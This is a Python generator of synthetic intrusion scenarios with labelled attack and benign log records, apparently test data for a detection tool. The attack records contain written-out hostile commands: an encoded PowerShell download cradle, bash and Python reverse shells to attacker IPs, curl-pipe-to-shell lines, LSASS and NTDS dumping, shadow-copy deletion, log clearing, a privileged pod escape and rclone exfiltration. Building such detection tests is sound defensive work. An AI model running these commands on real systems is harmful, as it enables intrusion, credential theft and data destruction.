#!/usr/bin/env python3
"""Writes the scenarios: NAME/records.ndjson.gz and NAME/truth.json, for each intrusion below.

    python3 tests/scenarios/generate.py

records.ndjson.gz holds one object per record, as the demo's recording does (demo/README.md); truth.json
says which of them, counted from 0, are of the intrusion, and which begin it. The same script gives the
same bytes. README.md tells the stories.
"""
import base64
import gzip
import json
import os

from common import (BROWSER, CMD, EXPLORER, HERE, HOUR, MINUTE, NET, POWERSHELL, REG, RUNDLL, S32, SECOND, SERVICES, SVCHOST,
                    SYSTEM, WORD, World, demo)


def encoded(text):
    return base64.b64encode(text.encode("utf-16-le")).decode()


def phishing():
    """A document with a macro; a beacon; credentials; two servers; the archive of a share leaves."""
    w = World(11, "NORTHSEA", "10.31", [f"nb-{n:03d}" for n in range(1, 13)],
              ["dc-01", "file-01", "app-02", "bkp-01", "adm-01", "scan-01", "web-01"],
              ["k.lund", "t.moe", "i.dahl", "s.aune", "b.vik", "l.hagen", "j.berg", "a.strand", "p.foss", "m.holm", "e.lie", "r.eide"])
    bad, c2, drop = "nb-007", "203.0.113.140", "203.0.113.77"
    at = 5 * HOUR
    w.bad(w.run(at, bad, "j.berg", WORD, f'"{WORD}" /n "C:\\Users\\j.berg\\Downloads\\faktura-8841.docm"', EXPLORER, 6_120, 4_412,
                product="Microsoft Office", original="WinWord.exe"))
    command = f"powershell.exe -NoP -W Hidden -Enc {encoded(f'IEX (New-Object Net.WebClient).DownloadString(' + repr('http://' + c2 + '/s') + ')')}"
    w.bad(w.run(at + 9 * SECOND, bad, "j.berg", POWERSHELL, command, WORD, 6_644, 6_120, original="PowerShell.EXE"), root=True)
    w.bad(w.script(at + 10 * SECOND, bad, f"IEX (New-Object Net.WebClient).DownloadString('http://{c2}/s')"),
          w.connects(at + 11 * SECOND, bad, "j.berg", POWERSHELL, 6_644, c2, 80),
          w.traffic(at + 12 * SECOND, bad, c2, 80, 900, 480_000, "j.berg"))
    for n in range(70):
        w.bad(w.conn(at + 60 * SECOND + n * MINUTE + w.rnd.randint(-1500, 1500), bad, c2, 443, 1_200, 2_100, "ssl", 0.7))
    w.bad(w.made(at + 3 * MINUTE, bad, "j.berg", POWERSHELL, 6_644, "C:\\Users\\Public\\svcupd.dll"),
          w.run(at + 4 * MINUTE, bad, "j.berg", RUNDLL, "rundll32.exe C:\\Users\\Public\\svcupd.dll,Start", POWERSHELL, 7_012, 6_644,
                original="RUNDLL32.EXE"),
          w.registry(at + 5 * MINUTE, bad, "j.berg", RUNDLL, 7_012, "HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\svcupd",
                     "rundll32.exe C:\\Users\\Public\\svcupd.dll,Start"),
          w.run(at + 22 * MINUTE, bad, "j.berg", S32 + "whoami.exe", "whoami /priv", RUNDLL, 7_100, 7_012, original="whoami.exe"),
          w.run(at + 23 * MINUTE, bad, "j.berg", NET, 'net group "Domain Admins" /domain', RUNDLL, 7_110, 7_012, original="net.exe"),
          w.run(at + 24 * MINUTE, bad, "j.berg", S32 + "nltest.exe", "nltest /domain_trusts /all_trusts", RUNDLL, 7_111, 7_012, original="nltestrk.exe"))
    for n, service in enumerate(["svc-sql", "svc-web", "svc-backup", "svc-print", "svc-scan", "svc-mail"]):
        w.bad(w.ticket(at + 40 * MINUTE + n * SECOND, "dc-01", "j.berg", service, bad, "0x17"))
    w.bad(w.lsass(at + 52 * MINUTE, bad, "j.berg", RUNDLL, 7_012, "0x1010"))
    t = at + 75 * MINUTE
    w.bad(w.with_credentials(t, bad, "j.berg", "svc-sql", "app-02", "C:\\Users\\Public\\wmi.exe"),
          w.logon(t + 2_000, "app-02", "svc-sql", 3, bad, "NTLM"), w.conn(t + 2_100, bad, "app-02", 135, 4_100, 3_900, "dce_rpc"),
          w.run(t + 5_000, "app-02", "svc-sql", CMD, "cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\ADMIN$\\__1764547211.33 2>&1",
                S32 + "wbem\\WmiPrvSE.exe", 3_310, 1_180, original="Cmd.Exe", integrity="High"),
          w.run(t + 80_000, "app-02", "svc-sql", POWERSHELL, command, S32 + "wbem\\WmiPrvSE.exe", 3_400, 1_180, original="PowerShell.EXE",
                integrity="High"),
          w.connects(t + 82_000, "app-02", "svc-sql", POWERSHELL, 3_400, c2, 443),
          w.conn(t + 83_000, "app-02", c2, 443, 9_000, 500_000),
          w.run(t + 200_000, "app-02", "svc-sql", REG, "reg save hklm\\sam C:\\Windows\\Temp\\s.hiv", CMD, 3_444, 3_310, original="reg.exe", integrity="High"))
    t = at + 3 * HOUR
    w.bad(w.logon(t, "file-01", "svc-sql", 3, "app-02", "NTLM"), w.share(t + 900, "file-01", "svc-sql", "app-02", "C$"),
          w.run(t + 60_000, "file-01", "svc-sql", CMD, "cmd.exe /Q /c dir D:\\Finance 1> \\\\127.0.0.1\\ADMIN$\\__1764550411.90 2>&1",
                S32 + "wbem\\WmiPrvSE.exe", 2_210, 1_190, original="Cmd.Exe", integrity="High"),
          w.run(t + 240_000, "file-01", "svc-sql", "C:\\Windows\\Temp\\7za.exe", "7za.exe a -mhe -pWinter-26 C:\\Windows\\Temp\\f.7z D:\\Finance",
                CMD, 2_300, 2_210, product="7-Zip", original="7za.exe", integrity="High"),
          w.run(t + 900_000, "file-01", "svc-sql", "C:\\Windows\\Temp\\rclone.exe",
                "rclone.exe copy C:\\Windows\\Temp\\f.7z cloud:box --transfers 8 --ignore-existing", CMD, 2_390, 2_210, product="Rclone",
                original="rclone.exe", integrity="High"),
          w.connects(t + 901_000, "file-01", "svc-sql", "C:\\Windows\\Temp\\rclone.exe", 2_390, drop, 443),
          w.conn(t + 1_500_000, "file-01", drop, 443, 2_400_000_000, 4_000_000, "ssl", 600.0),
          w.traffic(t + 1_500_500, "file-01", drop, 443, 2_400_000_000, 4_000_000))
    # harmless, on the same servers and the same day
    w.daily(12 * HOUR, 1_400)
    w.scanner(2 * HOUR, ["web-01", "app-02", "file-01"])
    w.backup(1 * HOUR, ["file-01", "app-02", "dc-01"])
    w.administrator(6 * HOUR, ["web-01", "app-02"])
    w.patching(9 * HOUR, ["nb-001", "nb-003", "nb-007", "nb-009"])
    w.updates(0, "nb-004", "198.51.100.44", 5 * MINUTE, 100)
    w.good(w.run(7 * HOUR, "nb-002", "t.moe", "C:\\Program Files\\7-Zip\\7z.exe", "7z.exe a -pHaus-9 D:\\Send\\tilbud.7z D:\\Send\\tilbud", EXPLORER,
                 7_301, 4_120, product="7-Zip", original="7z.exe"))
    return w


def webshell():
    """A script uploaded to a web server runs commands; a key opens the database server; a dump leaves."""
    w = World(12, "MERIDIAN", "10.44", [f"pc-{n:02d}" for n in range(1, 9)],
              ["web-01", "web-02", "db-01", "app-01", "mon-01", "scan-01", "bkp-01", "adm-01"],
              ["c.roux", "d.petit", "f.garnier", "h.leroy", "l.morel", "n.simon", "o.blanc", "p.faure"])
    attacker, drop = "203.0.113.201", "198.51.100.188"
    at = 4 * HOUR
    for n, path in enumerate(["/", "/shop/", "/shop/login", "/shop/register", "/shop/profile"]):
        w.bad(w.web(at + n * 20 * SECOND, "web-01", attacker, "GET", path, 200, 9_100, "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0"))
    w.bad(w.web(at + 3 * MINUTE, "web-01", attacker, "POST", "/shop/profile/avatar", 302, 0, "python-requests/2.32"))
    w.bad(w.web(at + 4 * MINUTE, "web-01", attacker, "GET", "/uploads/avatars/u4471.php?c=id", 200, 54, "python-requests/2.32"), root=True)
    for n, words in enumerate([["id"], ["uname", "-a"], ["cat", "/var/www/shop/config.php"], ["ss", "-tlnp"], ["whoami"], ["getent", "hosts", "db-01"],
                               ["ip", "route"]]):
        w.bad(w.exec(at + 4 * MINUTE + n * 20 * SECOND + 400, "web-01", "www-data", 33, words),
              w.web(at + 4 * MINUTE + n * 20 * SECOND + 900, "web-01", attacker, "POST", "/uploads/avatars/u4471.php", 200, 300 + n, "python-requests/2.32"))
    w.bad(w.exec(at + 9 * MINUTE, "web-01", "www-data", 33, ["bash", "-c", f"bash -i >& /dev/tcp/{attacker}/4444 0>&1"]),
          w.conn(at + 9 * MINUTE + 800, "web-01", attacker, 4444, 88_000, 41_000, "-", 5_200.0))
    w.bad(w.exec(at + 14 * MINUTE, "web-01", "www-data", 33, ["python3", "-c", f"import socket,subprocess,os;s=socket.socket();s.connect((\"{attacker}\",4445));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])"]))
    w.bad(w.exec(at + 20 * MINUTE, "web-01", "www-data", 33, ["find", "/", "-perm", "-4000"]),
          w.exec(at + 24 * MINUTE, "web-01", "root", 0, ["cat", "/etc/shadow"]),
          w.path_made(at + 26 * MINUTE, "web-01", "/root/.ssh/authorized_keys"),
          w.path_made(at + 27 * MINUTE, "web-01", "/etc/cron.d/apt-refresh"),
          w.exec(at + 30 * MINUTE, "web-01", "root", 0, ["nmap", "-sT", "-p", "22,3306,5432", f"{w.net}.1.0/24"]))
    t = at + 70 * MINUTE
    w.bad(w.ssh_ok(t, "db-01", "deploy", "web-01"), w.conn(t + 200, "web-01", "db-01", 22, 60_000, 90_000, "ssh", 900.0))
    for n, words in enumerate([["id"], ["whoami"], ["uname", "-a"], ["ss", "-tlnp"], ["getent", "passwd"]]):
        w.bad(w.exec(t + 20 * SECOND + n * 9 * SECOND, "db-01", "deploy", 1_002, words))
    w.bad(w.exec(t + 4 * MINUTE, "db-01", "deploy", 1_002, ["sudo", "-n", "mysqldump", "--all-databases"]),
          w.exec(t + 5 * MINUTE, "db-01", "root", 0, ["cp", "/etc/shadow", "/tmp/.s"]),
          w.exec(t + 9 * MINUTE, "db-01", "root", 0, ["sh", "-c", f"curl -s http://{attacker}/x.sh | bash"]),
          w.conn(t + 9 * MINUTE + 300, "db-01", attacker, 80, 400, 9_000, "http"),
          w.conn(t + 30 * MINUTE, "db-01", drop, 443, 3_100_000_000, 900_000, "ssl", 1_100.0),
          w.exec(t + 45 * MINUTE, "db-01", "deploy", 1_002, ["rm", "-f", "/home/deploy/.bash_history"]),
          w.exec(t + 46 * MINUTE, "db-01", "root", 0, ["auditctl", "-D"]))
    w.daily(11 * HOUR, 1_300)
    w.scanner(1 * HOUR, ["web-01", "web-02", "app-01", "db-01"])
    w.scanner(8 * HOUR, ["web-01", "web-02"])
    # a developer at work on the other web server, an administrator on the database server
    w.good(w.ssh_ok(3 * HOUR, "web-02", "c.roux", "pc-01"))
    for n, words in enumerate([["id"], ["uname", "-a"], ["ss", "-tlnp"], ["ip", "a"], ["last"]]):
        w.good(w.exec(3 * HOUR + MINUTE + n * 8 * SECOND, "web-02", "c.roux", 1_010, words))
    w.good(w.ssh_ok(6 * HOUR, "db-01", "adm.petit", "adm-01"), w.exec(6 * HOUR + MINUTE, "db-01", "adm.petit", 1_000, ["w"]))
    for n in range(9):
        w.good(w.ssh_failed(7 * HOUR + n * 20 * SECOND, "app-01", "h.leroy", "pc-04"))
    w.good(w.ssh_ok(7 * HOUR + 4 * MINUTE, "app-01", "h.leroy", "pc-04", "password"))
    for n in range(80):
        w.good(w.web(n * 8 * MINUTE, "web-01", f"192.0.2.{n % 200 + 10}", "GET", f"/shop/item/{n}", 200, 4_000 + n))
        w.good(w.web(n * 8 * MINUTE + 3_000, "web-02", f"192.0.2.{n % 150 + 20}", "GET", f"/blog/{n}", 200, 7_000 + n))
    for n in range(6):
        w.good(w.web(2 * HOUR + n * 3 * SECOND, "web-02", "198.51.100.66", "GET", ["/.env", "/.git/config", "/wp-login.php", "/../../etc/passwd", "/phpmyadmin/", "/backup.sql"][n], 404, 153, "zgrab/0.x"))
    w.good(w.conn(2 * HOUR, "bkp-01", "198.51.100.9", 443, 5_500_000_000, 2_000_000, "ssl", 1_500.0))
    w.updates(0, "mon-01", "198.51.100.90", 4 * MINUTE, 140)
    return w


def cloudkeys():
    """A laptop's browser passwords; push messages until one is allowed; Okta; keys and secrets of AWS."""
    w = World(13, "HARBOR", "10.52", [f"lap-{n:02d}" for n in range(1, 11)], ["dc-01", "file-01", "jump-01", "scan-01", "bkp-01", "adm-01", "dns"],
              ["m.ferro", "g.conti", "l.rossi", "a.greco", "s.bruno", "v.costa", "n.gallo", "r.leone", "e.serra", "d.villa"])
    attacker, other, at = "203.0.113.52", "203.0.113.53", 3 * HOUR
    host, user = "lap-04", "a.greco"
    w.bad(w.run(at, host, user, S32 + "mshta.exe", f"mshta.exe http://{attacker}/captcha.hta", EXPLORER, 5_100, 4_412, original="MSHTA.EXE"), root=True)
    w.bad(w.squid(at + 900, host, user, "GET", f"http://{attacker}/captcha.hta", 9_000),
          w.run(at + 4_000, host, user, POWERSHELL, f"powershell -w hidden -c \"iwr http://{attacker}/l.exe -o $env:TEMP\\l.exe; start $env:TEMP\\l.exe\"",
                S32 + "mshta.exe", 5_220, 5_100, original="PowerShell.EXE"),
          w.run(at + 9_000, host, user, "C:\\Users\\a.greco\\AppData\\Local\\Temp\\l.exe", "l.exe", POWERSHELL, 5_300, 5_220, product="-", original="-"),
          w.made(at + 12_000, host, user, "C:\\Users\\a.greco\\AppData\\Local\\Temp\\l.exe", 5_300, "C:\\Users\\a.greco\\AppData\\Local\\Temp\\Login Data"),
          w.connects(at + 15_000, host, user, "C:\\Users\\a.greco\\AppData\\Local\\Temp\\l.exe", 5_300, attacker, 443),
          w.conn(at + 15_500, host, attacker, 443, 6_200_000, 40_000))
    t = at + 2 * HOUR
    for n in range(6):
        w.bad(w.okta(t + n * 50 * SECOND, user, "user.mfa.okta_verify.deny_push", attacker, country="Moldova"))
    w.bad(w.okta(t + 6 * MINUTE, user, "user.session.start", attacker, country="Moldova"),
          w.okta(t + 9 * MINUTE, user, "system.api_token.create", attacker, country="Moldova"),
          w.okta(t + 14 * MINUTE, user, "system.mfa.factor.deactivate", attacker, country="Moldova", target="v.costa"),
          w.okta(t + 20 * MINUTE, user, "user.account.privilege.grant", attacker, country="Moldova", target=user))
    t = at + 3 * HOUR
    for n, name in enumerate(["ListUsers", "ListRoles", "GetAccountAuthorizationDetails", "ListBuckets", "DescribeInstances", "ListSecrets", "ListKeys", "DescribeDBInstances", "ListTrails", "GetCallerIdentity"]):
        w.bad(w.aws(t + n * 9 * SECOND, user, ["iam", "iam", "iam", "s3", "ec2", "secretsmanager", "kms", "rds", "cloudtrail", "sts"][n], name, attacker,
                    error="AccessDenied" if n < 9 else None, read=True))
    w.bad(w.aws(t + 10 * MINUTE, user, "iam", "CreateAccessKey", attacker, {"userName": "terraform-ci"}),
          w.aws(t + 15 * MINUTE, "terraform-ci", "iam", "AttachUserPolicy", other, {"userName": "terraform-ci", "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"}),
          w.aws(t + 22 * MINUTE, "terraform-ci", "cloudtrail", "StopLogging", other, {"name": "main"}))
    for n in range(14):
        w.bad(w.aws(t + 30 * MINUTE + n * 5 * SECOND, "terraform-ci", "secretsmanager", "GetSecretValue", other, {"secretId": f"prod/app{n}"}, read=True))
    w.bad(w.aws(t + 50 * MINUTE, "terraform-ci", "rds", "ModifyDBSnapshotAttribute", other,
                {"dBSnapshotIdentifier": "crm-final", "attributeName": "restore", "valuesToAdd": ["999988887777"]}))
    w.daily(10 * HOUR, 1_300)
    w.scanner(1 * HOUR, ["file-01", "jump-01"])
    w.backup(30 * MINUTE, ["file-01", "dc-01"])
    w.administrator(4 * HOUR, ["file-01", "jump-01"])
    w.patching(7 * HOUR, ["lap-01", "lap-04", "lap-06"])
    w.good(w.console(2 * HOUR, "web-team", "198.51.100.214"), w.console(6 * HOUR, "data-science", "198.51.100.214"))
    for n in range(30):
        w.good(w.aws(n * 18 * MINUTE, ["terraform-ci", "web-team", "m.ferro"][n % 3], ["ec2", "s3", "sts"][n % 3],
                     ["DescribeInstances", "ListBuckets", "GetCallerIdentity"][n % 3], "198.51.100.214", read=True, agent="Terraform/1.9"))
    for n in range(12):
        w.good(w.aws(5 * HOUR + n * 6 * SECOND, "rotation", "secretsmanager", "GetSecretValue", "198.51.100.214", {"secretId": f"stage/app{n}"}, read=True))
    w.good(w.okta(2 * HOUR, "it.desk", "user.mfa.factor.reset_all", "192.0.2.133", target="n.gallo"),
           w.aws(4 * HOUR, "m.ferro", "iam", "CreateAccessKey", "198.51.100.214", {"userName": "backup-job"}))
    for n in range(5):
        w.good(w.okta(8 * HOUR + n * 40 * SECOND, "e.serra", "user.mfa.okta_verify.deny_push", "192.0.2.140"))
    w.good(w.okta(8 * HOUR + 5 * MINUTE, "e.serra", "user.session.start", "192.0.2.140"))
    return w


def ransomware():
    """The VPN guessed; a server; the controller; protection off and shadow copies deleted on every server."""
    w = World(14, "GRANITE", "10.63", [f"ws-{n:03d}" for n in range(1, 13)],
              ["dc-01", "file-01", "file-02", "sql-01", "app-01", "print-01", "bkp-01", "adm-01", "scan-01"],
              ["a.kowal", "b.zajac", "c.nowak", "d.wrona", "e.mazur", "f.krol", "g.lis", "h.duda", "i.pawlak", "j.sikora", "k.baran", "l.czech"])
    attacker, at = "203.0.113.19", 6 * HOUR
    users = list(w.owner.values())
    for n in range(24):
        w.bad(w.vpn(at + n * 11 * SECOND, users[n % 12], attacker, False), root=True)
    w.bad(w.vpn(at + 20 * MINUTE, "g.lis", attacker, True))
    inside = f"{w.net}.9.44"
    t = at + 30 * MINUTE
    for n, user in enumerate(users + ["adm.wolny", "svc-sql", "svc-backup", "svc-print", "helpdesk", "kiosk"]):
        w.bad(w.refused(t + n * 3 * SECOND, "dc-01", user, inside))
    w.bad(w.logon(t + 4 * MINUTE, "app-01", "svc-sql", 10, inside, "NTLM"),
          w.conn(t + 4 * MINUTE, inside, "app-01", 3389, 900_000, 8_000_000, "rdp", 3_000.0),
          w.run(t + 8 * MINUTE, "app-01", "svc-sql", S32 + "whoami.exe", "whoami /priv", CMD, 4_100, 4_000, original="whoami.exe", integrity="High"),
          w.run(t + 9 * MINUTE, "app-01", "svc-sql", "C:\\Users\\Public\\AdFind.exe", "AdFind.exe -f (objectcategory=computer) -csv", CMD, 4_110, 4_000,
                product="AdFind", original="AdFind.exe", integrity="High"),
          w.run(t + 15 * MINUTE, "app-01", "svc-sql", POWERSHELL, "powershell Set-MpPreference -DisableRealtimeMonitoring $true", CMD, 4_140, 4_000,
                original="PowerShell.EXE", integrity="High"),
          w.run(t + 20 * MINUTE, "app-01", "svc-sql", RUNDLL, "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 712 C:\\Users\\Public\\l.dmp full", CMD,
                4_200, 4_000, original="RUNDLL32.EXE", integrity="High"),
          w.lsass(t + 20 * MINUTE + 300, "app-01", "svc-sql", RUNDLL, 4_200),
          w.made(t + 20 * MINUTE + 900, "app-01", "svc-sql", RUNDLL, 4_200, "C:\\Users\\Public\\lsass.dmp"))
    t = at + 2 * HOUR
    w.bad(w.logon(t, "dc-01", "adm.wolny", 3, "app-01", "NTLM"), w.share(t + 500, "dc-01", "adm.wolny", "app-01"),
          w.service(t + 900, "dc-01", "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe"),
          w.run(t + 1_200, "dc-01", SYSTEM, CMD, "cmd.exe", "C:\\Windows\\PSEXESVC.exe", 5_288, 5_240, original="Cmd.Exe", integrity="System"),
          w.run(t + 60_000, "dc-01", SYSTEM, S32 + "ntdsutil.exe", 'ntdsutil "ac i ntds" "ifm" "create full C:\\Windows\\Temp\\d" q q', CMD, 5_300, 5_288,
                original="ntdsutil.exe", integrity="System"),
          w.account(t + 200_000, "dc-01", "adm.wolny", "svc_update"), w.member(t + 205_000, "dc-01", "adm.wolny", "svc_update"))
    t = at + 5 * HOUR
    for n, host in enumerate(["file-01", "file-02", "sql-01", "print-01", "bkp-01"]):
        s = t + n * 70 * SECOND
        pid = 6_000 + n * 40
        w.bad(w.logon(s, host, "svc_update", 3, "dc-01", "NTLM"), w.share(s + 300, host, "svc_update", "dc-01"),
              w.service(s + 700, host, "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe"),
              w.run(s + 1_500, host, SYSTEM, CMD, "cmd.exe /c C:\\Windows\\Temp\\w.bat", "C:\\Windows\\PSEXESVC.exe", pid, pid - 9, original="Cmd.Exe", integrity="System"),
              w.run(s + 3_000, host, SYSTEM, NET, "net stop \"VeeamBackupSvc\" /y", CMD, pid + 1, pid, original="net.exe", integrity="System"),
              w.run(s + 5_000, host, SYSTEM, S32 + "vssadmin.exe", "vssadmin delete shadows /all /quiet", CMD, pid + 2, pid, original="VSSADMIN.EXE", integrity="System"),
              w.run(s + 7_000, host, SYSTEM, S32 + "bcdedit.exe", "bcdedit /set {default} recoveryenabled no", CMD, pid + 3, pid, original="bcdedit.exe", integrity="System"),
              w.run(s + 9_000, host, SYSTEM, S32 + "wevtutil.exe", "wevtutil cl security", CMD, pid + 4, pid, original="wevtutil.exe", integrity="System"),
              w.cleared(s + 9_500, host, "svc_update"),
              w.made(s + 30_000, host, SYSTEM, "C:\\Windows\\Temp\\w.exe", pid + 5, "D:\\Data\\HOW_TO_RECOVER_FILES.txt"))
    w.daily(13 * HOUR, 1_400)
    w.scanner(2 * HOUR, ["app-01", "file-01", "sql-01"])
    w.backup(1 * HOUR, ["file-01", "file-02", "sql-01", "app-01"])
    w.administrator(4 * HOUR, ["print-01", "file-02"], "adm.nowy")
    w.administrator(9 * HOUR, ["app-01"], "adm.nowy")
    w.patching(12 * HOUR, ["ws-001", "ws-002", "app-01", "file-01"])
    w.good(w.account(3 * HOUR, "dc-01", "adm.nowy", "m.nowicka"))
    for n in range(9):
        w.good(w.refused(8 * HOUR + n * 15 * SECOND, "file-01", "e.mazur", "ws-005"))
    for n in range(4):
        w.good(w.vpn(5 * HOUR + n * 40 * SECOND, "c.nowak", "192.0.2.61", False))
    w.good(w.vpn(5 * HOUR + 4 * MINUTE, "c.nowak", "192.0.2.61", True))
    return w


def insider():
    """Somebody about to leave collects files of two servers and takes them along."""
    w = World(15, "LINDEN", "10.71", [f"pc-{n:03d}" for n in range(1, 11)], ["dc-01", "file-01", "dms-01", "bkp-01", "adm-01", "scan-01"],
              ["u.vogt", "p.arnold", "m.engel", "s.kuhn", "t.pohl", "w.seidel", "h.brandt", "g.sommer", "j.haas", "k.otto"])
    user, host, notebook, at = "s.kuhn", "pc-004", "pc-009", 4 * HOUR
    drop = "198.51.100.177"
    w.bad(w.run(at, host, user, CMD, 'cmd.exe /c findstr /si password *.xml *.ini *.txt', EXPLORER, 5_010, 4_412, original="Cmd.Exe"),
          w.run(at + 1_500, host, user, S32 + "findstr.exe", "findstr /si password *.xml *.ini *.txt", CMD, 5_020, 5_010, original="FINDSTR.EXE"), root=True)
    for n in range(40):
        w.bad(w.m365(at + 20 * MINUTE + n * 4 * SECOND, user, "FileDownloaded", "192.0.2.133",
                     ObjectId=f"https://linden.sharepoint.example/sites/rd/Shared/design-{n}.pdf"))
    t = at + 70 * MINUTE
    w.bad(w.logon(t, "dms-01", user, 3, host), w.share(t + 400, "dms-01", user, host, "D$"),
          w.logon(t + 9_000, "file-01", user, 3, host), w.share(t + 9_400, "file-01", user, host, "D$"),
          w.run(t + 5 * MINUTE, host, user, "C:\\Program Files\\7-Zip\\7z.exe", "7z.exe a -mhe -pAbschied C:\\Users\\Public\\a.7z \\\\dms-01\\D$\\Designs", EXPLORER,
                5_200, 4_412, product="7-Zip", original="7z.exe"),
          w.made(t + 6 * MINUTE, host, user, "C:\\Program Files\\7-Zip\\7z.exe", 5_200, "E:\\a.7z"),
          w.asked(t + 20 * MINUTE, host, user, S32 + "curl.exe", 5_290, "transfer.sh", "198.51.100.177"),
          w.run(t + 20 * MINUTE + 300, host, user, S32 + "curl.exe", "curl.exe --upload-file C:\\Users\\Public\\a.7z https://transfer.sh/a.7z", CMD, 5_290, 5_010,
                original="curl.exe"))
    for n in range(5):
        w.bad(w.conn(t + 21 * MINUTE + n * 3 * MINUTE, host, drop, 443, 800_000_000, 900_000, "ssl", 150.0))
    w.bad(w.m365(t + 60 * MINUTE, user, "New-InboxRule", "192.0.2.133", "Exchange", 1, ObjectId="mbx",
                 Parameters=[{"Name": "Name", "Value": "."}, {"Name": "SubjectContainsWords", "Value": "offer;design"},
                             {"Name": "ForwardTo", "Value": "sk.private@example.net"}, {"Name": "DeleteMessage", "Value": "True"}]))
    t = at + 3 * HOUR
    w.bad(w.logon(t, notebook, user, 10, host), w.run(t + 60_000, notebook, user, "C:\\Users\\Public\\rclone.exe",
                                                      "rclone.exe copy D:\\Archive mega:old --transfers 4 --ignore-existing", CMD, 6_100, 6_000,
                                                      product="Rclone", original="rclone.exe"),
          w.conn(t + 120_000, notebook, drop, 443, 1_900_000_000, 1_000_000, "ssl", 500.0),
          w.run(t + 50 * MINUTE, host, user, S32 + "wevtutil.exe", "wevtutil cl System", CMD, 5_400, 5_010, original="wevtutil.exe", integrity="High"))
    w.daily(10 * HOUR, 1_300)
    w.scanner(1 * HOUR, ["dms-01", "file-01"])
    w.backup(2 * HOUR, ["file-01", "dms-01", "dc-01"])
    w.administrator(6 * HOUR, ["dms-01", "file-01"], "adm.engel")
    w.patching(8 * HOUR, ["pc-001", "pc-004", "pc-009"])
    for n in range(34):
        w.good(w.m365(3 * HOUR + n * 5 * SECOND, "g.sommer", "FileDownloaded", "192.0.2.133", ObjectId=f"https://linden.sharepoint.example/sites/hr/Shared/form-{n}.pdf"))
    w.good(w.run(5 * HOUR, "pc-002", "p.arnold", "C:\\Program Files\\7-Zip\\7z.exe", "7z.exe a -pKunde-3 D:\\Send\\k.7z D:\\Send\\k", EXPLORER, 7_301, 4_120,
                 product="7-Zip", original="7z.exe"),
           w.asked(5 * HOUR + 20 * MINUTE, "pc-006", "w.seidel", S32 + "curl.exe", 5_900, "file.io", "198.51.100.178"))
    return w


def pipeline():
    """A stolen token of a build system: repositories, the cluster, a node, the cloud account behind it."""
    w = World(16, "CEDAR", "10.85", [f"dev-{n:02d}" for n in range(1, 9)], ["ci-01", "node-01", "node-02", "reg-01", "mon-01", "scan-01", "bkp-01"],
              ["a.ito", "b.mori", "c.abe", "d.kato", "e.ono", "f.hara", "g.endo", "h.ueda"])
    attacker, at = "203.0.113.88", 5 * HOUR
    bot = "cedar-ci-bot"
    for n in range(20):
        w.bad(w.github(at + n * 6 * SECOND, bot, "git.clone", attacker, f"svc-{n:02d}", "RO", transport_protocol_name="http"), root=True)
    w.bad(w.github(at + 12 * MINUTE, bot, "public_key.create", attacker, "deploy-tools", "RO", title="ci2", read_only="false"),
          w.github(at + 15 * MINUTE, bot, "protected_branch.destroy", attacker, "deploy-tools", "RO", name="main"),
          w.github(at + 18 * MINUTE, bot, "repo.register_self_hosted_runner", attacker, "deploy-tools", "RO"))
    t = at + 50 * MINUTE
    who = "ci-deployer@cedar.example"
    for n in range(12):
        w.bad(w.kube(t + n * 4 * SECOND, who, ["list", "get"][n % 2], ["nodes", "configmaps", "roles", "daemonsets"][n % 4], attacker, f"ns{n}", code=403))
    w.bad(w.kube(t + 3 * MINUTE, who, "list", "secrets", attacker, "", "", uri="/api/v1/secrets?limit=500"),
          w.kube(t + 8 * MINUTE, who, "create", "pods", attacker, "default", "node-debug", 201, body={
              "kind": "Pod", "apiVersion": "v1", "metadata": {"name": "node-debug"},
              "spec": {"hostPID": True, "containers": [{"name": "x", "image": "alpine", "securityContext": {"privileged": True}}],
                       "volumes": [{"name": "r", "hostPath": {"path": "/"}}]}}),
          w.kube(t + 10 * MINUTE, who, "create", "pods", attacker, "default", "node-debug", 101, sub="exec"))
    w.bad(w.exec(t + 11 * MINUTE, "node-01", "root", 0, ["nsenter", "-t", "1", "-m", "-u", "-i", "-n", "bash"]),
          w.exec(t + 13 * MINUTE, "node-01", "root", 0, ["cat", "/etc/shadow"]),
          w.exec(t + 16 * MINUTE, "node-01", "root", 0, ["bash", "-c", f"bash -i >& /dev/tcp/{attacker}/8443 0>&1"]),
          w.conn(t + 16 * MINUTE + 300, "node-01", attacker, 8443, 90_000, 60_000, "-", 4_000.0),
          w.exec(t + 20 * MINUTE, "node-01", "root", 0, ["curl", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"]),
          w.path_made(t + 24 * MINUTE, "node-01", "/etc/systemd/system/kubelet-helper.service"))
    t = at + 3 * HOUR
    role = "eks-node-role/i-0a1b2c3d4e5f60718"
    for n, name in enumerate(["ListUsers", "ListRoles", "DescribeDBInstances", "ListKeys", "ListTrails", "ListFunctions20150331", "DescribeSnapshots", "ListSecrets", "ListTopics"]):
        w.bad(w.aws(t + n * 8 * SECOND, "eks-node", ["iam", "iam", "rds", "kms", "cloudtrail", "lambda", "ec2", "secretsmanager", "sns"][n], name, attacker,
                    error="AccessDenied", role=role, read=True, agent="aws-cli/2.18.0 exec-env/kali"))
    w.bad(w.aws(t + 8 * MINUTE, "eks-node", "s3", "ListBuckets", attacker, role=role, read=True, agent="aws-cli/2.18.0 exec-env/kali"),
          w.aws(t + 14 * MINUTE, "eks-node", "s3", "DeletePublicAccessBlock", attacker, {"bucketName": "cedar-exports"}, role=role))
    w.bad(w.exec(t + 40 * MINUTE, "node-01", "root", 0, ["sh", "-c", f"curl -s http://{attacker}/m | sh"]),
          w.exec(t + 41 * MINUTE, "node-01", "root", 0, ["/dev/shm/.x", "--donate-level=1", "-o", "stratum+tcp://198.51.100.211:3333"], "/dev/shm/.x"),
          w.conn(t + 42 * MINUTE, "node-01", "198.51.100.211", 3333, 900_000, 400_000, "-", 3_000.0))
    w.daily(11 * HOUR, 1_200)
    w.scanner(2 * HOUR, ["ci-01", "reg-01", "node-01"])
    for n in range(90):
        repo = f"svc-{n % 20:02d}"
        w.good(w.github(n * 7 * MINUTE, bot if n % 3 else "a.ito", "git.clone" if n % 4 else "git.push", "198.51.100.30", repo, transport_protocol_name="http"))
